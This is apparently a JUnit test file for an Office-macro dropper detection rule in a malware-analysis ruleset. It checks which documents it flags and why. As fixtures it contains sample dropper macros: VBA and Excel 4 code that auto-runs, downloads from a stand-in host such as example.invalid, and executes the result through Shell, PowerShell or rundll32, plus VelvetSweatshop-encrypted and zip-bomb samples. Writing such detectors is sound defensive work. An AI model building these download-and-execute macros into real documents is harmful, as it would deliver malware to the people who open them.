package org.peekaboo.ruleset;

import static org.assertj.core.api.Assertions.assertThat;
import static org.peekaboo.office.testing.OfficeFiles.module;

import java.io.IOException;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.OleReportSource;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.ruleset.testing.FakeFileTypeDetector;
import org.peekaboo.ruleset.testing.TestSamples;
import org.peekaboo.verdict.Result;
import org.peekaboo.verdict.RuleResult;

class OfficeMacroDropperRuleTest {
    private static final String NAME = "office_macro_dropper";

    private final OfficeMacroDropperRule rule = new OfficeMacroDropperRule(OleReportSource.withDefaultLimits());

    @TempDir
    Path dir;

    @Test
    void aWordDropperIsBadAndTheReasonNamesTriggerAndIndicators() throws Exception {
        byte[] doc = OfficeFiles.doc(module("ThisDocument",
                "Private Sub Document_Open()",
                "  Set h = CreateObject(\"MSXML2.XMLHTTP\")",
                "  h.Open \"GET\", \"http://example.invalid/p\", False",
                "  h.Send",
                "  Shell Environ(\"TEMP\") & \"\\p.exe\", 0",
                "End Sub"));

        assertThat(rule.evaluate(context(doc, "invoice.doc"))).isEqualTo(RuleResult.stop(NAME, Result.BAD,
                "The file contains an Office macro that runs by itself (Document_Open) and runs programs (Shell),"
                        + " downloads (MSXML2.XMLHTTP)"));
    }

    @Test
    void droppersInEveryContainerAreBad() throws Exception {
        Map<String, String> autoOpen = module("Module1", "Sub AutoOpen()",
                "  CreateObject(\"WScript.Shell\").Run \"powershell -enc JAB\", 0", "End Sub");
        Map<String, String> workbookOpen = module("ThisWorkbook", "Private Sub Workbook_Open()",
                "  URLDownloadToFile 0, u, p, 0, 0", "End Sub",
                "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" _",
                "  (ByVal a As LongPtr, ByVal u As String, ByVal p As String, ByVal r As Long, ByVal c As LongPtr) As Long");
        Map<String, String> autoOpenExcel = module("Module1", "Sub auto_open()",
                "  x = StrReverse(\"exe.clac c/ dmc\")", "End Sub");

        assertThat(rule.evaluate(context(OfficeFiles.docm(autoOpen), "a.docm")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (AutoOpen) and runs programs"
                        + " (WScript.Shell, PowerShell)");
        assertThat(rule.evaluate(context(OfficeFiles.xls(workbookOpen, false, false), "a.xls")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Workbook_Open) and downloads (URLDownloadToFile)");
        assertThat(rule.evaluate(context(OfficeFiles.xlsm(autoOpenExcel), "a.xlsm")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Auto_Open) and hides what it does (StrReverse)");
    }

    @Test
    void benignMacrosGoOn() throws Exception {
        byte[] formatting = OfficeFiles.docm(module("Module1", "Sub FormatTable()",
                "  Shell \"notepad.exe\"", "End Sub"));
        byte[] statusBar = OfficeFiles.xlsm(module("ThisWorkbook", "Private Sub Workbook_Open()",
                "  Application.StatusBar = \"Ready: \" & Format(Date, \"dd.mm.yyyy\")",
                "  Sheets(1).Range(\"A1\").Value = Now", "End Sub"));
        byte[] autoOpenDate = OfficeFiles.doc(module("ThisDocument", "Sub AutoOpen()",
                "  ActiveDocument.Fields.Update ' refresh the date, do not Shell anything", "End Sub"));

        assertThat(rule.evaluate(context(formatting, "f.docm"))).isEqualTo(RuleResult.proceed(NAME, Result.UNKNOWN,
                "The file's Office macros do not run by themselves"));
        assertThat(rule.evaluate(context(statusBar, "s.xlsm"))).isEqualTo(RuleResult.proceed(NAME, Result.UNKNOWN,
                "The file's Office macros run by themselves but show no sign of a dropper"));
        assertThat(rule.evaluate(context(autoOpenDate, "d.doc")).result()).isEqualTo(Result.UNKNOWN);
    }

    @Test
    void filesWithoutMacroCodeGoOn() throws Exception {
        RuleResult noCode = RuleResult.proceed(NAME, Result.UNKNOWN, "The file contains no VBA macro code and no Excel 4 formulas");

        assertThat(rule.evaluate(context("%PDF-1.4\n".getBytes(), "a.pdf"))).isEqualTo(noCode);
        assertThat(rule.evaluate(context(OfficeFiles.docx(), "a.docx"))).isEqualTo(noCode);
        assertThat(rule.evaluate(context(OfficeFiles.xlsm(module("Sheet1", "Option Explicit")), "a.xlsm")))
                .isEqualTo(noCode);
        // An Excel 4 auto-open sheet without formulas has nothing to run.
        assertThat(rule.evaluate(context(OfficeFiles.xlsmWithXlmMacroSheet(), "x.xlsm"))).isEqualTo(noCode);
    }

    @Test
    void excel4DroppersAreBadInEveryFormat() throws Exception {
        byte[] xlsm = OfficeFiles.xlsmWithXlmFormulas("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
                + "\"http://example.invalid/p\",\"C:\\Users\\Public\\p.dll\",0,0)", "EXEC(\"rundll32 p.dll,Start\")",
                "HALT()");
        byte[] xls = OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c calc\")", "HALT()");
        byte[] sylk = OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c calc\")", "HALT()");

        assertThat(rule.evaluate(context(xlsm, "a.xlsm")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Auto_Open) and runs programs (EXEC (Excel 4)),"
                        + " downloads (URLDownloadToFile (Excel 4))");
        assertThat(rule.evaluate(context(xls, "a.xls")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Auto_Open) and runs programs (EXEC (Excel 4))");
        assertThat(rule.evaluate(context(sylk, "a.slk")).result()).isEqualTo(Result.BAD);
        assertThat(rule.evaluate(context(sylk, "a.csv")).result()).isEqualTo(Result.BAD);
    }

    @Test
    void benignExcel4MacroSheetsGoOn() throws Exception {
        byte[] compute = OfficeFiles.xlsmWithXlmFormulas("SUM(B1:B9)", "SET.VALUE(C1,A1*2)", "RETURN()");
        byte[] legacy = OfficeFiles.xlsWithXlmFormulas("SUM(B1:B9)", "GET.WORKSPACE(2)", "RETURN(TRUE)");

        assertThat(rule.evaluate(context(compute, "a.xlsm"))).isEqualTo(RuleResult.proceed(NAME, Result.UNKNOWN,
                "The file's Office macros run by themselves but show no sign of a dropper"));
        assertThat(rule.evaluate(context(legacy, "a.xls")).result()).isEqualTo(Result.UNKNOWN);
    }

    @Test
    void aCommentOrMessageNamingATriggerDoesNotCount() throws Exception {
        byte[] doc = OfficeFiles.doc(module("Module1", "' Sub AutoOpen() was removed",
                "Sub Export()", "  MsgBox \"Sub Document_Open\"", "  Shell \"calc.exe\"", "End Sub"));

        assertThat(rule.evaluate(context(doc, "a.doc")).result()).isEqualTo(Result.UNKNOWN);
    }

    @Test
    void droppersEncryptedWithOfficesDefaultPasswordAreBad() throws Exception {
        Map<String, String> workbookOpen = module("ThisWorkbook", "Private Sub Workbook_Open()",
                "  CreateObject(\"WScript.Shell\").Run \"powershell -enc JAB\", 0", "End Sub");
        byte[] xlsm = OfficeFiles.encryptedOoxml(OfficeFiles.xlsm(workbookOpen), "VelvetSweatshop", EncryptionMode.agile);
        byte[] xls = OfficeFiles.encryptedXlsWithXlmFormulas("VelvetSweatshop", "EXEC(\"cmd /c calc\")", "HALT()");

        assertThat(rule.evaluate(context(xlsm, "a.xlsm")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Workbook_Open) and runs programs"
                        + " (WScript.Shell, PowerShell)");
        assertThat(rule.evaluate(context(xls, "a.xls")).reason()).isEqualTo(
                "The file contains an Office macro that runs by itself (Auto_Open) and runs programs (EXEC (Excel 4))");
    }

    @Test
    void aDocumentWithAnotherPasswordGetsTheEncryptedResult() throws Exception {
        byte[] xlsm = OfficeFiles.encryptedOoxml(OfficeFiles.xlsm(Map.of()), "Gehalt2026", EncryptionMode.agile);
        byte[] xls = OfficeFiles.encryptedXlsWithXlmFormulas("Gehalt2026", "EXEC(\"cmd /c calc\")");
        OfficeMacroDropperRule strict = new OfficeMacroDropperRule(OleReportSource.withDefaultLimits(),
                new UndecidableDocuments(Result.BAD, Result.IGNORED));

        RuleResult byDefault = rule.evaluate(context(xlsm, "pay.xlsx"));

        assertThat(byDefault.result()).isEqualTo(Result.IGNORED);
        assertThat(byDefault.furtherAnalysis()).isTrue();
        assertThat(byDefault.reason()).isEqualTo("The document is encrypted with a password other than Office's"
                + " default ones; its macros cannot be analysed");
        assertThat(rule.evaluate(context(xls, "pay.xls")).result()).isEqualTo(Result.IGNORED);
        assertThat(strict.evaluate(context(xls, "pay.xls"))).extracting(RuleResult::result, RuleResult::furtherAnalysis)
                .containsExactly(Result.BAD, false);
    }

    @Test
    void aDocumentThatCannotBeReadGetsTheUnreadableResult() throws Exception {
        byte[] doc = OfficeFiles.doc(module("Module1", "Sub AutoOpen()", "End Sub"));
        byte[] truncated = Arrays.copyOf(doc, doc.length / 2);
        OfficeMacroDropperRule failing = new OfficeMacroDropperRule(OleReportSource.withDefaultLimits(),
                new UndecidableDocuments(Result.IGNORED, Result.FAILED));

        RuleResult byDefault = rule.evaluate(context(truncated, "cut.doc"));

        assertThat(byDefault.result()).isEqualTo(Result.IGNORED);
        assertThat(byDefault.reason()).startsWith("The document cannot be analysed: cannot read the Office document: ");
        assertThat(failing.evaluate(context(truncated, "cut.doc")).result()).isEqualTo(Result.FAILED);
        assertThat(failing.evaluate(context(OfficeFiles.docmZipBomb(16 << 20), "bomb.docm")).reason())
                .contains("zip bomb");
    }

    private SampleContext context(byte[] content, String name) throws IOException {
        return TestSamples.context(new TestSamples(dir).sample(content, name, null), FakeFileTypeDetector.nothingDetected());
    }
}
